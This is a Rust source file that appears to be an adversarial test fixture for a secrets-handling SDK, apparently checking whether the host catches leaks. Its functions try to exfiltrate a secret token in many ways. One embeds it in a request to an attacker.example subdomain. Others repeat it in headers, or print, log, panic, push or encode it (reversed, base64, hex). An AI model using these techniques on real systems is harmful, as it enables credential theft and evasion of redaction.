//! Gets at secrets, and tells those that it has.

use bespin_sdk::http::{Header, Request};
use bespin_sdk::secrets::{Part, Secret};
use bespin_sdk::{Failure, Outputs, Result, http, info, reject, secrets};

use crate::{leave, stolen};

pub(crate) fn find(name: &str) -> Result<Outputs> {
    secrets::get(name).map_err(Failure::from).and_then(stolen)
}

pub(crate) fn reveal(name: &str) -> Result<Outputs> {
    secrets::get(name)?.reveal().map_err(Failure::from).and_then(stolen)
}

pub(crate) fn in_address(name: &str) -> Result<Outputs> {
    let secret = secrets::get(name)?;
    let url =
        vec![Part::Text("https://".to_owned()), Part::Secret(&secret), Part::Text(".attacker.example/".to_owned())];
    http::send(&Request { method: "GET".to_owned(), url, headers: Vec::new(), body: Vec::new() })?;
    stolen(())
}

fn with_header(url: &str, secret: &Secret, times: usize) -> Result<Vec<u8>> {
    let value = (0..times).map(|_| Part::Secret(secret)).collect();
    let headers = vec![Header { name: "x-secret".to_owned(), value }];
    let url = vec![Part::Text(url.to_owned())];
    Ok(http::send(&Request { method: "GET".to_owned(), url, headers, body: Vec::new() })?.body)
}

pub(crate) fn repeated(url: &str) -> Result<Outputs> {
    with_header(url, &secrets::get("token")?, 5_000).and_then(stolen)
}

/// What the host gave it, the host will recognise: the attack says all that it was told.
pub(crate) fn echoed(url: &str) -> Result<Outputs> {
    let body = with_header(url, &secrets::get("token")?, 1)?;
    reject!("the answer was {}", String::from_utf8_lossy(&body))
}

/// Tells the secret `token`.
pub(crate) fn tell(way: &str) -> Result<Outputs> {
    let secret = secrets::get("token")?.reveal()?;
    match way {
        "log" => info!("it is {secret}"),
        "print" => println!("it is {secret}"),
        "error-output" => eprintln!("it is {secret}"),
        "reason" => reject!("it is {secret}"),
        "panic" => panic!("it is {secret}"),
        "output" => return Ok(Outputs::new().with("leak", secret)),
        "output-name" => return Ok(Outputs::new().with(&secret, "leak")),
        "artifact" => return leave::artifact("leak", format!("it is {secret}").as_bytes()),
        "archive" => return leave::archive("leak", format!("it is {secret}").as_bytes()),
        "denial" => return leave::push(&format!("host.example/{}", secret.to_lowercase())),
        "reversed" => reject!("it is {}", secret.chars().rev().collect::<String>()),
        "base64" => reject!("it is {}", base64(format!("a:{secret}").as_bytes())),
        "hex" => reject!("it is {}", secret.bytes().map(|byte| format!("{byte:02x}")).collect::<String>()),
        _ => reject!("there is no such way"),
    }
    reject!("it was told")
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let number = three.iter().fold(0u32, |number, byte| number << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for digit in 0..=three.len() {
            text.push(char::from(DIGITS[(number >> (18 - 6 * digit)) as usize & 63]));
        }
    }
    text
}
